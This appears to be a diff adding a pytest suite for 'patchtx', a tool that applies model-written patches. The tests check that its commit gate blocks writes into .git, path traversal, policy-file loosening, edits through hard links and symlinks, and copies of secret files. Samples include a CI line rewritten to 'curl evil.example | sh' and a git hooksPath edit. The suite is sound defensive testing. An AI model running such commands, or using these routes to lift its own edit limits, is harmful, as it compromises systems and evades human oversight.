@@ -1,0 +1,229 @@
+"""The commit is the gate (issue 24): whatever made a plan, the commit checks its paths by the one
+path rule and what it does against the host's ceiling and the workspace's tightening, under every
+name each file has. Each attack of the issue, as an attacker (a model, a cloned repository) would
+try it, through the library, the CLI and the MCP server."""
+
+from __future__ import annotations
+
+import os
+from pathlib import Path
+
+import pytest
+
+import patchtx
+from patchtx.errors import PatchtxError
+from patchtx.model import PathTarget, Plan
+from patchtx.txn import commit
+
+from .surfaces import cli_apply, everywhere, library, mcp_apply
+from .test_boundary import snapshot
+
+CI = "run: pytest\n"
+PYPROJECT = '[project]\nname = "x"\n\n[tool.patchtx]\nprotected = [".github/**"]\n'
+
+
+@pytest.fixture
+def repo(tmp_path: Path) -> Path:
+    root = tmp_path / "repo"
+    (root / ".github" / "workflows").mkdir(parents=True)
+    (root / ".github" / "workflows" / "ci.yml").write_text(CI)
+    (root / "pyproject.toml").write_text(PYPROJECT)
+    (root / "notes.txt").write_text("notes\n")
+    (root / ".git").mkdir()
+    (root / ".git" / "config").write_text("[core]\n")
+    return root
+
+
+def update(path: str, old: str, new: str) -> str:
+    return f"*** Begin Patch\n*** Update File: {path}\n@@\n-{old}\n+{new}\n*** End Patch\n"
+
+
+def add(path: str, text: str = "x") -> str:
+    return f"*** Begin Patch\n*** Add File: {path}\n+{text}\n*** End Patch\n"
+
+
+def files(root: Path) -> dict[str, bytes | str]:
+    return {k: v for k, v in snapshot(root).items() if not k.startswith(".patchtx")}
+
+
+# -- one path rule: the planner, the commit and the journal reader ---------------------------------
+
+
+@pytest.mark.parametrize("path", [".git/config", "sub/.git/hooks/pre-commit", ".GIT/config", "a/.git./x",
+                                  "sub/.patchtx/journal/20260101T000000-0000abcd.journal", ".patchtx/lock",
+                                  "a/../b", "./a", "a//b", "/etc/passwd", "a\0b", "a\\b", "a\nb", ""])
+def test_a_hand_built_plan_gets_the_one_path_rule(tmp_path: Path, path: str) -> None:
+    """txn.commit and apply_plan with a plan no planner would make: refused before anything is
+    written (it used to commit .git/config, never list its history entry, and leave a journal
+    recovery refused as damaged after a crash)."""
+    root = tmp_path / "root"
+    (root / ".git").mkdir(parents=True)
+    (root / ".git/config").write_text("[core]\n")
+    before = snapshot(root)
+    plan = Plan(root=str(root), changes=(), targets=(PathTarget(path, None, b"pwned\n"),))
+    for attempt in (lambda: commit(plan), lambda: patchtx.apply_plan(plan)):
+        with pytest.raises(PatchtxError) as caught:
+            attempt()
+        assert caught.value.kind == "unsafe_path"
+        assert "Nothing was changed" in caught.value.message
+    assert snapshot(root) == before
+
+
+def test_the_planner_and_the_journal_reader_refuse_what_the_commit_refuses() -> None:
+    from patchtx.txn.journal import relpath_field
+    from patchtx.workspace import path_problem
+
+    for path in ("sub/.patchtx/journal/x", "x/.GIT/y", "a/b/../c", "a\x1bb"):
+        assert path_problem(path) is not None
+        with pytest.raises(ValueError):
+            relpath_field(path)
+    for path in ("a/b.txt", "sub/.patchtxt", "sub/.github/x", "tab\tname"):
+        assert path_problem(path) is None
+        assert relpath_field(path) == path
+
+
+def test_a_nested_workspace_state_folder_is_out_of_reach(repo: Path) -> None:
+    """A model whose root is R cannot write R/sub/.patchtx (which would wedge sub's next commit)."""
+    (repo / "sub").mkdir()
+    before = files(repo)
+    outcomes = everywhere(repo, add("sub/.patchtx/journal/20260101T000000-0000abcd.journal", "{}"))
+    assert set(outcomes.values()) == {"unsafe_path"}, outcomes
+    assert files(repo) == before
+
+
+# -- policy files, wherever a policy applies ----------------------------------------------------------
+
+
+def test_a_nested_workspace_policy_is_protected(repo: Path) -> None:
+    (repo / "sub").mkdir()
+    (repo / "sub" / ".patchtx.toml").write_text('protected = ["prod/**"]\n')
+    (repo / "sub" / "pyproject.toml").write_text('[project]\nname = "s"\n\n[tool.patchtx]\nmax-files = 3\n')
+    before = files(repo)
+    for patch in (update("sub/.patchtx.toml", 'protected = ["prod/**"]', "protected = []"),
+                  update("sub/pyproject.toml", "max-files = 3", "max-files = 3000"),
+                  "*** Begin Patch\n*** Delete File: sub/.patchtx.toml\n*** End Patch\n"):
+        outcomes = everywhere(repo, patch, allow_delete=True)
+        assert set(outcomes.values()) == {"policy_violation"}, (patch, outcomes)
+    assert files(repo) == before
+    # Other edits of a nested pyproject.toml are fine.
+    assert library(repo, update("sub/pyproject.toml", 'name = "s"', 'name = "t"')) == "applied"
+
+
+def test_the_hosts_config_inside_the_root_is_protected(repo: Path) -> None:
+    """patchtx mcp started in $HOME: the model must not edit (or create) the config that sets the
+    ceiling, and then run without it."""
+    config = repo / ".config" / "patchtx" / "config.toml"
+    config.parent.mkdir(parents=True)
+    config.write_text('protected = ["secret/**"]\nallow-delete = false\n')
+    (repo / "secret").mkdir()
+    (repo / "secret" / "k").write_text("k\n")
+    env = {"PATCHTX_CONFIG": str(config)}
+    before = files(repo)
+    lift = update(".config/patchtx/config.toml", 'protected = ["secret/**"]', "protected = []")
+    assert set(everywhere(repo, lift, env=env).values()) == {"policy_violation"}
+    assert set(everywhere(repo, update("secret/k", "k", "K"), env=env).values()) == {"policy_violation"}
+    assert files(repo) == before
+    # Not there yet: creating it is a policy edit too.
+    config.unlink()
+    before = files(repo)
+    assert set(everywhere(repo, add(".config/patchtx/config.toml", "allow-policy-edit = true"),
+                          env=env).values()) == {"policy_violation"}
+    assert files(repo) == before
+    # Through XDG_CONFIG_HOME, as a host started in $HOME finds it.
+    config.write_text('protected = ["secret/**"]\n')
+    env = {"PATCHTX_CONFIG": "", "XDG_CONFIG_HOME": str(repo / ".config")}
+    assert cli_apply(repo, lift, env=env) == "policy_violation"
+    assert mcp_apply(repo, lift, env=env) == "policy_violation"
+    assert config.read_text() == 'protected = ["secret/**"]\n'
+
+
+# -- every name a file has ---------------------------------------------------------------------------
+
+
+def test_a_hard_linked_twin_of_a_protected_file_is_protected(repo: Path) -> None:
+    os.link(repo / ".github/workflows/ci.yml", repo / "notes.yml")
+    before = files(repo)
+    outcomes = everywhere(repo, update("notes.yml", "run: pytest", "run: curl evil.example | sh"))
+    assert set(outcomes.values()) == {"policy_violation"}, outcomes
+    assert files(repo) == before and (repo / ".github/workflows/ci.yml").read_text() == CI
+    with pytest.raises(PatchtxError) as caught:
+        patchtx.apply_patch(update("notes.yml", "run: pytest", "run: x"), repo)
+    assert ".github/workflows/ci.yml" in caught.value.message and "notes.yml" in caught.value.message
+    # The Transaction API and a hand-built plan meet the same gate.
+    with pytest.raises(PatchtxError) as caught, patchtx.Transaction(repo) as tx:
+        tx.write_text("notes.yml", "run: x\n")
+    assert caught.value.kind == "policy_violation"
+    plan = Plan(root=str(repo), changes=(), targets=(PathTarget("notes.yml", CI.encode(), b"pwned\n", 0o644, 0o644),))
+    with pytest.raises(PatchtxError) as caught:
+        patchtx.apply_plan(plan)
+    assert caught.value.kind == "policy_violation"
+    assert files(repo) == before
+
+
+def test_a_hard_linked_twin_of_the_policy_is_policy(repo: Path) -> None:
+    os.link(repo / "pyproject.toml", repo / "pyproject.copy.toml")
+    before = files(repo)
+    lift = update("pyproject.copy.toml", 'protected = [".github/**"]', "protected = []")
+    assert set(everywhere(repo, lift).values()) == {"policy_violation"}
+    assert files(repo) == before
+
+
+def test_a_hard_link_into_git_is_out_of_reach(repo: Path) -> None:
+    os.link(repo / ".git/config", repo / "config.txt")
+    before = files(repo)
+    assert set(everywhere(repo, update("config.txt", "[core]", "[core] hooksPath = /tmp")).values()) == {
+        "unsafe_path"}
+    assert files(repo) == before
+
+
+def test_a_protected_symlink_name_protects_the_file(repo: Path) -> None:
+    (repo / "real.txt").write_text("real\n")
+    (repo / "link.txt").symlink_to("real.txt")
+    before = files(repo)
+    for patch in (update("link.txt", "real", "pwned"), update("real.txt", "real", "pwned")):
+        outcomes = everywhere(repo, patch, protected=["link.txt"], cli_args=("--protect", "link.txt"),
+                              mcp_args=("--protect", "link.txt"))
+        assert set(outcomes.values()) == {"policy_violation"}, (patch, outcomes)
+    assert files(repo) == before
+
+
+def test_a_protected_folder_reached_through_a_symlinked_folder(repo: Path) -> None:
+    (repo / "real_conf").mkdir()
+    (repo / "real_conf" / "db.ini").write_text("db\n")
+    (repo / "conf").symlink_to("real_conf", target_is_directory=True)
+    before = files(repo)
+    for patch in (update("conf/db.ini", "db", "pwned"), update("real_conf/db.ini", "db", "pwned")):
+        assert library(repo, patch, protected=["conf/**"]) == "policy_violation", patch
+        assert cli_apply(repo, patch, "--protect", "conf/") == "policy_violation", patch
+    assert files(repo) == before
+
+
+def test_a_copy_from_a_protected_file_is_refused(repo: Path) -> None:
+    """A unified diff's copy would put the protected bytes in a new file (and in the diff shown
+    to the model)."""
+    (repo / "secret").mkdir()
+    (repo / "secret" / "k").write_text("the key\n")
+    copy = ("diff --git a/secret/k b/leak.txt\nsimilarity index 100%\ncopy from secret/k\ncopy to leak.txt\n")
+    before = files(repo)
+    outcomes = everywhere(repo, copy, protected=["secret/**"], cli_args=("--protect", "secret/**"),
+                          mcp_args=("--protect", "secret/**"))
+    assert set(outcomes.values()) == {"policy_violation"}, outcomes
+    assert files(repo) == before
+    from .surfaces import cli
+
+    kind, out = cli(repo, "check", "--protect", "secret/**", patch=copy)
+    assert kind == "policy_violation" and "the key" not in str(out)
+
+
+def test_a_hand_built_plan_cannot_call_a_delete_a_move(repo: Path) -> None:
+    """allow_delete off, allow_move on: a plan whose changes say 'move' but which writes no
+    destination is a delete, and refused as one."""
+    from patchtx.model import ChangeKind, FileChange
+
+    before = files(repo)
+    lie = FileChange(ChangeKind.MOVE, "elsewhere.txt", "elsewhere.txt", b"notes\n", b"notes\n", source="notes.txt")
+    plan = Plan(root=str(repo), changes=(lie,), targets=(PathTarget("notes.txt", b"notes\n", None, 0o644, None),))
+    with pytest.raises(PatchtxError) as caught:
+        patchtx.apply_plan(plan, allow_delete=False)
+    assert caught.value.kind == "policy_violation" and "deleting" in caught.value.message
+    assert files(repo) == before
